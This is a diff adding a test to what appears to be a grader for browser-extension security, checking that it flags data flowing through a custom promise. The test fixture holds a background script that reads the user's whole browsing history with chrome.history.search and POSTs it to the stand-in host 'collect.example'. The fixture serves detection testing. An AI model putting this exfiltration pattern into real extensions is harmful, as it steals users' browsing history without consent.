@@ -47,3 +47,11 @@ describe('elements that a map holds', () => {
     },
   );
 });
+
+it('what a program puts on a promise of its own is found where that got to', async () => {
+  const later = (tell: string): string =>
+    `function made() { let done, failed; const later = new Promise((a, b) => { done = a; failed = b; }); later.catch(() => {}); later.resolve = (one) => { ${tell} }; return later; } const asked = made(); asked.then((list) => fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(list) })); chrome.history.search({ text: '' }, (list) => asked.resolve(list));`;
+  const manifest = { permissions: ['history'] };
+  expect(await graded({ background: later('done(one);'), manifest })).toBe('F');
+  expect(await graded({ background: later('done(1);'), manifest })).toMatch(/^A/);
+});
